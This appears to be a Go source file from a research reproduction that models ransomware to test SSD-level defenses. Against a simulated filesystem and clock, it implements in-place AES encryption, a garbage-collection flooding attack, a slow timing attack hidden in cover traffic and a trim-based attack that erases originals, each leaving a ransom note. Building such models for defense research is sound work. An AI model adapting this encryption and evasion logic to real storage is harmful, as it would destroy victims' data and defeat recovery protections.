// Package attack implements executable models of encryption ransomware,
// including the paper's three "Ransomware 2.0" attacks that defeat
// conventional SSD-level protections:
//
//   - GC attack: after encrypting, flood the device's free capacity so
//     garbage collection is forced to erase whatever stale data a
//     retention scheme was holding.
//   - Timing attack: encrypt at a trickle, interleaved with benign-looking
//     traffic, to stay under rate/pattern detectors and outlast any
//     bounded retention window.
//   - Trimming attack: write the ciphertext to a new file and trim the
//     plaintext's pages, physically destroying the originals on drives
//     that honour trim.
//
// The models operate through the same host filesystem a real sample
// would, so every defense sees genuine I/O patterns rather than synthetic
// markers. They stand in for the paper's VirusTotal samples because what
// matters to a storage-level defense is the I/O behaviour; each model's own
// doc (Encryptor, GCAttack, TimingAttack, TrimmingAttack, and the Wiper and
// PartialEncryptor variants) states the behaviour it reproduces.
package attack

import (
	"crypto/aes"
	"crypto/cipher"
	"errors"
	"fmt"
	"math/rand"
	"strings"

	"repro/internal/host"
	"repro/internal/simclock"
)

// Report summarizes what an attack did, for the experiment harness.
type Report struct {
	Name           string
	FilesAttacked  int
	BytesEncrypted int
	TrimsIssued    int
	FloodWrites    int
	Start, End     simclock.Time
}

func (r Report) String() string {
	return fmt.Sprintf("%s: %d files, %d bytes encrypted, %d trims, %d flood writes, %v..%v",
		r.Name, r.FilesAttacked, r.BytesEncrypted, r.TrimsIssued, r.FloodWrites, r.Start, r.End)
}

// Attack is a runnable ransomware model.
type Attack interface {
	Name() string
	Run(fs *host.FlatFS, rng *rand.Rand) (Report, error)
}

// encrypt returns the AES-256-CTR encryption of data under key — real
// ciphertext, so entropy-based detection faces exactly what it would in
// the wild.
func encrypt(key [32]byte, nonce uint64, data []byte) []byte {
	block, err := aes.NewCipher(key[:])
	if err != nil {
		panic(err) // fixed-size key; cannot fail
	}
	iv := make([]byte, aes.BlockSize)
	for i := 0; i < 8; i++ {
		iv[i] = byte(nonce >> (8 * i))
	}
	out := make([]byte, len(data))
	cipher.NewCTR(block, iv).XORKeyStream(out, data)
	return out
}

// victims lists the files an attack will target: everything except its own
// droppings (ransom notes, .locked copies).
func victims(fs *host.FlatFS) []string {
	var out []string
	for _, name := range fs.List() {
		if strings.HasSuffix(name, ".locked") || strings.HasPrefix(name, "RANSOM") || strings.HasPrefix(name, "flood-") {
			continue
		}
		out = append(out, name)
	}
	return out
}

// Encryptor is classic encryption ransomware: read each file, overwrite it
// in place with ciphertext, drop a ransom note. This is the behaviour
// FlashGuard-class defenses were designed for.
type Encryptor struct {
	Key [32]byte
	// MaxFiles bounds how many files are encrypted (0 = all).
	MaxFiles int
}

// Name implements Attack.
func (e *Encryptor) Name() string { return "encryptor" }

// Run implements Attack.
func (e *Encryptor) Run(fs *host.FlatFS, rng *rand.Rand) (Report, error) {
	rep := Report{Name: e.Name(), Start: fs.Clock().Now()}
	for i, name := range victims(fs) {
		if e.MaxFiles > 0 && i >= e.MaxFiles {
			break
		}
		data, err := fs.ReadFile(name)
		if err != nil {
			return rep, err
		}
		if err := fs.Overwrite(name, encrypt(e.Key, uint64(i), data)); err != nil {
			return rep, err
		}
		rep.FilesAttacked++
		rep.BytesEncrypted += len(data)
	}
	_ = fs.Create("RANSOM_NOTE.txt", []byte("Your files are encrypted. Pay 1 BTC to restore them."))
	rep.End = fs.Clock().Now()
	return rep, nil
}

// GCAttack encrypts like Encryptor, then floods the device with junk to
// force garbage collection cycles that erase retained stale data on
// conventional retention schemes. Rounds controls how many times the
// logical free space is overwritten.
type GCAttack struct {
	Key    [32]byte
	Rounds int
}

// Name implements Attack.
func (g *GCAttack) Name() string { return "gc-attack" }

// Run implements Attack.
func (g *GCAttack) Run(fs *host.FlatFS, rng *rand.Rand) (Report, error) {
	enc := &Encryptor{Key: g.Key}
	rep, err := enc.Run(fs, rng)
	if err != nil {
		return rep, err
	}
	rep.Name = g.Name()
	rounds := g.Rounds
	if rounds <= 0 {
		rounds = 3
	}
	ps := fs.Device().PageSize()
	junk := make([]byte, ps)
	for round := 0; round < rounds; round++ {
		// Fill all remaining free space with incompressible junk, then
		// delete it and refill — every round forces GC over the whole
		// over-provisioned area.
		var made []string
		for i := 0; ; i++ {
			rng.Read(junk)
			name := fmt.Sprintf("flood-%d-%d", round, i)
			if err := fs.Create(name, junk); err != nil {
				break // device/filesystem full: exactly the goal
			}
			made = append(made, name)
			rep.FloodWrites++
		}
		for _, name := range made {
			if err := fs.Delete(name, false); err != nil {
				return rep, err
			}
		}
	}
	rep.End = fs.Clock().Now()
	return rep, nil
}

// TimingAttack encrypts a few files per burst, sleeping simulated time
// between bursts and wrapping each burst in benign-looking reads and
// low-entropy writes. Total attack duration can span simulated weeks,
// defeating bounded retention windows and rate-based detectors.
type TimingAttack struct {
	Key           [32]byte
	FilesPerBurst int
	BurstInterval simclock.Duration // simulated time between bursts
	CoverOpsPerOp int               // benign ops interleaved per malicious op
}

// Name implements Attack.
func (t *TimingAttack) Name() string { return "timing-attack" }

// Run implements Attack.
func (t *TimingAttack) Run(fs *host.FlatFS, rng *rand.Rand) (Report, error) {
	rep := Report{Name: t.Name(), Start: fs.Clock().Now()}
	perBurst := t.FilesPerBurst
	if perBurst <= 0 {
		perBurst = 2
	}
	interval := t.BurstInterval
	if interval <= 0 {
		interval = 6 * simclock.Hour
	}
	cover := NewCoverTraffic(0.2)
	targets := victims(fs)
	for i := 0; i < len(targets); i += perBurst {
		end := i + perBurst
		if end > len(targets) {
			end = len(targets)
		}
		for j := i; j < end; j++ {
			for c := 0; c < t.CoverOpsPerOp; c++ {
				if err := cover.Step(fs, rng); err != nil {
					return rep, err
				}
			}
			data, err := fs.ReadFile(targets[j])
			if errors.Is(err, host.ErrNotFound) {
				continue // the cover traffic deleted this target meanwhile
			}
			if err != nil {
				return rep, err
			}
			if err := fs.Overwrite(targets[j], encrypt(t.Key, uint64(j), data)); err != nil {
				return rep, err
			}
			rep.FilesAttacked++
			rep.BytesEncrypted += len(data)
		}
		fs.Clock().Advance(interval) // lie low
	}
	_ = fs.Create("RANSOM_NOTE.txt", []byte("Slow and steady. Pay up."))
	rep.End = fs.Clock().Now()
	return rep, nil
}

// TrimmingAttack writes each victim's ciphertext to a new file, then
// deletes the original with trim so the plaintext pages are physically
// erased on conventional SSDs. No overwrite ever happens, which blinds
// overwrite-retention defenses entirely.
type TrimmingAttack struct {
	Key [32]byte
}

// Name implements Attack.
func (a *TrimmingAttack) Name() string { return "trimming-attack" }

// Run implements Attack.
func (a *TrimmingAttack) Run(fs *host.FlatFS, rng *rand.Rand) (Report, error) {
	rep := Report{Name: a.Name(), Start: fs.Clock().Now()}
	for i, name := range victims(fs) {
		data, err := fs.ReadFile(name)
		if err != nil {
			return rep, err
		}
		if err := fs.Create(name+".locked", encrypt(a.Key, uint64(i), data)); err != nil {
			return rep, err
		}
		pages, err := fs.Extents(name)
		if err != nil {
			return rep, err
		}
		if err := fs.Delete(name, true); err != nil {
			return rep, err
		}
		rep.TrimsIssued += len(pages)
		rep.FilesAttacked++
		rep.BytesEncrypted += len(data)
	}
	_ = fs.Create("RANSOM_NOTE.txt", []byte("Originals are gone. Pay for the key."))
	rep.End = fs.Clock().Now()
	return rep, nil
}
